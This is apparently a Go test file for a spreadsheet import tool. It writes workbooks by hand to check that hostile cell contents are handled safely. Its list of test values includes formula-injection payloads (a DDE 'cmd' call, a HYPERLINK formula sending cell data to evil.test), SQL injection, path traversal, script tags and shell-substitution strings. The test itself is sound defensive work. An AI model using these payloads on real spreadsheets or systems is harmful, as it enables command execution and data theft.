//go:build unix

package cli_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
	"testing"

	"claimsheet/importer/result"
	"claimsheet/importer/sheet/sheettest"
)

// hostileCanary is in cells; nothing of cells may come up on stderr.
const hostileCanary = "s3cr3t"

// TestC2_HostileRows sends sheets full of what people, programs and attackers put into cells through the program as it
// is built. Every row is accounted for exactly once, what arrives at the service is literally what the cell says,
// nothing of a cell is on stderr, and nothing panics or eats the machine.
func TestC2_HostileRows(t *testing.T) {
	t.Parallel()
	rows := longOr(400, 120)
	for _, date1904 := range []bool{true, false}[:longOr(2, 1)] {
		t.Run(fmt.Sprintf("date1904=%v", date1904), func(t *testing.T) {
			t.Parallel()
			s := newScene(t, stepThree, nil)
			sheet := newHostileSheet(rows, date1904)
			sheet.write(t, s.path("leads.xlsx"))
			checkAccounts(t, s.runHostile(), rows)
			s.checkHostileResults(rows)
			s.checkArrived(sheet)
			s.checkMadeOnce()
		})
	}
}

// runHostile runs the program and holds its end, its memory and what it says on stderr against what is promised.
func (s *scene) runHostile() (summary result.Summary) {
	s.t.Helper()
	p := child(programName, s.args("--json", "--max-failures", "100%", "--concurrency", "8"))
	var out bytes.Buffer
	p.Stdout = &out
	p.start(s.t)
	resident := watchMemory(p.Process.Pid)
	code, said := p.end(s.t)
	if code != 1 {
		s.t.Fatalf("exit code %d, want 1: some rows are invalid\n%s", code, said)
	}
	if most := resident(); most > 512 {
		s.t.Errorf("%v MiB resident", most)
	}
	for _, bad := range []string{"panic", "goroutine ", hostileCanary, "\x1b", "\u202e", "\x00", "evil"} {
		if strings.Contains(said, bad) {
			s.t.Errorf("stderr holds %q:\n%s", bad, said)
		}
	}
	must(s.t, json.Unmarshal(out.Bytes(), &summary))
	return summary
}

// checkAccounts: the rows that went in are the rows that came out.
func checkAccounts(t *testing.T, summary result.Summary, rows int) {
	t.Helper()
	for _, c := range []result.Counts{summary.Rows, summary.Clients} {
		if sum := c.Done + c.Failed + c.Uncertain + c.Invalid + c.Skipped + c.Unchanged + c.Changed + c.NotStarted + c.Planned; sum != c.Total {
			t.Errorf("%d are counted, %d have a status: %+v", c.Total, sum, c)
		}
	}
	if r := summary.Rows; r.Total != rows || r.Failed+r.Uncertain+r.Changed+r.Unchanged > 0 || r.Done < rows/10 || r.Invalid < rows/10 || r.Skipped == 0 {
		t.Errorf("%d rows came to %+v", rows, r)
	}
}

// checkHostileResults: each row of the sheet stands once in the workbook, with a status.
func (s *scene) checkHostileResults(rows int) {
	s.t.Helper()
	seen := map[string]bool{}
	for _, r := range s.results() {
		if seen[r["Source row"]] || r["Import status"] == "" {
			s.t.Errorf("row %q stands twice, or has no status: %q", r["Source row"], r["Import status"])
		}
		seen[r["Source row"]] = true
		if r["Import status"] == "invalid" && (r["Error"] == "" || r["What to do"] == "") {
			s.t.Errorf("row %s does not say why it is invalid", r["Source row"])
		}
	}
	if len(seen) != rows {
		s.t.Errorf("%d of %d rows are in the workbook", len(seen), rows)
	}
}

// checkArrived: every address that the service got is one of the sheet's, to the letter.
func (s *scene) checkArrived(sheet *hostileSheet) {
	s.t.Helper()
	arrived := 0
	for _, call := range s.service.Calls() {
		if call.Kind != "activity" || !strings.Contains(call.Body, "11000000-0000-4000-8000-000000000002") {
			continue
		}
		var body struct {
			Attributes []struct{ TemplateID, StringValue string }
		}
		if err := json.Unmarshal([]byte(call.Body), &body); err != nil {
			s.t.Fatalf("a body is not JSON: %v", err)
		}
		for _, a := range body.Attributes {
			if a.TemplateID != "11000000-0000-4000-8000-000000000002" {
				continue
			}
			arrived++
			if !slices.Contains(sheet.addresses[strings.ToLower(call.Client)], a.StringValue) {
				s.t.Errorf("the service got the address %q, which no cell of the client says", a.StringValue)
			}
		}
	}
	if arrived == 0 {
		s.t.Error("no address arrived at all")
	}
}

// TestHostileCellTooLong: a text of 40,000 characters is more than a cell can hold. The workbook is refused, and
// nothing is sent.
func TestHostileCellTooLong(t *testing.T) {
	t.Parallel()
	s := newScene(t, stepThree, nil)
	sheet := newHostileSheet(0, false)
	sheet.row(false, inline("a@example.com"), inline("Ann"), "", "", inline(strings.Repeat("x", 40_000)), "", inline("A-1"))
	sheet.write(t, s.path("leads.xlsx"))
	p := s.mustRun(2)
	if !strings.Contains(p.err, s.path("leads.xlsx")+": ") || !strings.Contains(p.err, "32,767") || len(p.posts()) > 0 {
		t.Errorf("stderr %q, sent %v", p.err, p.posts())
	}
}

// hostileSheet is a workbook under construction, its XML written by hand: libraries do not write what it holds.
type hostileSheet struct {
	date1904  bool
	rows      strings.Builder
	merges    []string
	count     int
	addresses map[string][]string // by the client's e-mail address in lower case: what its cells say
}

// hostileText is a text as the file holds it and as it must arrive; "" where it must be refused or is nothing.
type hostileText struct{ stored, arrives string }

func same(s string) hostileText { return hostileText{s, s} }

// hostileTexts are what stands in text cells. Each is given the canary.
var hostileTexts = []hostileText{
	same("1 High Street"), same("=1+1"), same("=cmd|' /C evil'!A0"), same("+1+cmd|evil"), same("-1+1"), same("@SUM(1+1)*cmd|evil"),
	same("=HYPERLINK(\"http://evil.test?x=\"&A1,\"click\")"), same("{{.Env}}"), same("${HOME}"), same("$(evil)"), same("`evil`"), same("%s%n%d"), same(`"},{"x":"`),
	same("\\\"},{\\\"x\\\":\\\""), same("</t></is></c><evil/>"), same("<script>evil()</script>"), same("'; DROP TABLE steps;--"), same("../../etc/evil"),
	same("{E-mail}"), same("{{E-mail}}"), same("E-mail | Name"), same("null"), same("true"), same("NaN"), same("00123"), same("1E5"), same("#N/A"),
	same("a\tb"), {"line one\r\nline two", "line one\nline two"}, {"line one\rline two", "line one\nline two"}, same("line one\nline two"),
	same("Zo\u00eb"), same("Zoe\u0308"), same("a\u200bb"), same("a\u202eb\u202c"), same("\u2066a\u2069b"), same("👩\u200d👩\u200d👧"), same("ﷺ"), same("\U0001F4A9 \U000E0001x"),
	{"  spaced out \u00a0", "spaced out"}, {"\u200bzero\u2060", "zero"}, {"_x0041_BC", "ABC"}, {"_x005F_x0041_", "_x0041_"},
	{"NUL_x0000_here", ""}, {"ESC_x001B_[31mred", ""}, {"BEL_x0007_", ""}, {"lost\ufffdcharacter", ""}, {"\u200b", ""}, {"   ", ""}, {"DEL\u007f", ""}, {"C1\u0085x", ""},
}

// newHostileSheet makes a sheet of rows, some of which make whole clients and many of which do not. The same every
// time.
func newHostileSheet(rows int, date1904 bool) *hostileSheet {
	h := &hostileSheet{date1904: date1904, addresses: map[string][]string{}}
	rng := rand.New(rand.NewPCG(19, 19))
	for n := range rows {
		h.hostileRow(rng, n)
	}
	return h
}

func (h *hostileSheet) hostileRow(rng *rand.Rand, n int) {
	if n%97 == 96 {
		h.row(n%2 == 0, inline("   "), inline("\u00a0"))
		return
	}
	client := n
	if rng.IntN(10) == 0 && n > 0 {
		client = rng.IntN(n) // a client of an earlier row once more
	}
	email := fmt.Sprintf("c%d@example.com", client)
	written := oneOf(rng, email, email, email, strings.ToUpper(email), " "+email+"\u00a0", "\u200b"+email, "\u202a"+email+"\u202c")
	mail := inline(written)
	if rng.IntN(25) == 0 {
		mail = oneOf(rng, inline("no mail "+hostileCanary), inline(hostileCanary+"@@evil.test"), inline(hostileCanary+"@evil"), `t="e"><v>#REF!</v>`, "", inline("a@b.example,c@d.example"), `><f>A1</f>`)
	}
	text := oneOf(rng, hostileTexts...)
	address := inline(text.stored + " ")
	if text.arrives != "" {
		h.addresses[email] = append(h.addresses[email], text.arrives)
	}
	if rng.IntN(40) == 0 {
		address = inline(strings.Repeat(hostileCanary+"ü", 4_681)) // 32,767 characters
		h.addresses[email] = append(h.addresses[email], strings.Repeat(hostileCanary+"ü", 4_681))
	}
	usual := func(often int, good string, bad ...string) string {
		if rng.IntN(often) > 0 {
			return good
		}
		return oneOf(rng, bad...)
	}
	h.row(rng.IntN(20) == 0, mail, usual(8, inline("Ann"), inline(hostileCanary+"\u202e"), `t="e"><v>#DIV/0!</v>`, `><v>0.1</v>`),
		usual(5, inline("07911 123456"), inline("1E5"), `s="2"><v>1E5</v>`, `><v>447911123456</v>`, inline("00447911123456"), inline("07911 123456 ext 5"), inline("٠٧٩١١ ١٢٣٤٥٦"), inline(hostileCanary)),
		usual(5, `s="1"><v>29342</v>`, `s="1"><v>60</v>`, `s="1"><v>0.5</v>`, `s="1"><v>-1</v>`, `><v>29342</v>`, inline("1980-05-01"), inline("01/05/1980"), inline("1980-13-45"), inline(hostileCanary), `s="1"><v>2958466</v>`),
		address, usual(8, inline("Yes"), inline("TRUE"), `t="b"><v>1</v>`, `><v>1</v>`, inline("perhaps "+hostileCanary), `t="e"><v>#VALUE!</v>`),
		usual(8, inline(fmt.Sprintf("A-%d", n)), inline(fmt.Sprintf("00%d", n)), inline("Caf\u00e9"), inline("Cafe\u0301"), `><v>7.7E+09</v>`, `><v>12345678901234567890</v>`, "", `s="3"><v>7</v>`),
		usual(8, `><v>1250.5</v>`, inline("£1,250.50"), inline("1.250,50"), inline("(12)"), `><v>1E300</v>`, `><v>1.1000000000000001</v>`, inline("5%"), `><f>1+1</f>`),
		usual(8, inline("2026-03-31 09:30"), inline("2026-03-29 01:30"), inline("2026-10-25 01:30"), `s="1"><v>45000.25</v>`, inline(hostileCanary)))
	if rng.IntN(50) == 0 {
		h.merges = append(h.merges, fmt.Sprintf("B%d:C%d", h.count+1, h.count+1))
	}
}

// inline is a text cell as its XML goes on behind <c r="A1". Any text is written as it is, but for what XML itself
// needs.
func inline(s string) string {
	return `t="inlineStr"><is><t xml:space="preserve">` + xmlText.Replace(s) + `</t></is>`
}

var xmlText = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "\r", "&#13;")

// row adds a row of cells; "" leaves a cell out.
func (h *hostileSheet) row(hidden bool, cells ...string) {
	h.count++
	attribute := ""
	if hidden {
		attribute = ` hidden="1"`
	}
	fmt.Fprintf(&h.rows, `<row r="%d"%s>`, h.count+1, attribute)
	for i, c := range cells {
		if c != "" {
			fmt.Fprintf(&h.rows, `<c r="%c%d" %s</c>`, 'A'+i, h.count+1, c)
		}
	}
	h.rows.WriteString("</row>")
}

// write packs the workbook.
func (h *hostileSheet) write(t *testing.T, path string) {
	t.Helper()
	var headers strings.Builder
	for i, name := range header {
		fmt.Fprintf(&headers, `<c r="%c1" %s</c>`, 'A'+i, inline(name.(string)))
	}
	merges := ""
	if len(h.merges) > 0 {
		merges = `<mergeCells><mergeCell ref="` + strings.Join(h.merges, `"/><mergeCell ref="`) + `"/></mergeCells>`
	}
	book := sheettest.Workbook(`<worksheet><sheetData><row r="1">` + headers.String() + `</row>` + h.rows.String() + `</sheetData>` + merges + `</worksheet>`)
	book["xl/styles.xml"] = `<styleSheet><numFmts count="1"><numFmt numFmtId="164" formatCode="00000"/></numFmts><cellXfs count="4"><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="11"/><xf numFmtId="164"/></cellXfs></styleSheet>`
	book["xl/workbook.xml"] = strings.Replace(book["xl/workbook.xml"], "<sheets>", fmt.Sprintf(`<workbookPr date1904="%v"/><sheets>`, h.date1904), 1)
	must(t, os.WriteFile(path, book.Zip(), 0o600))
}
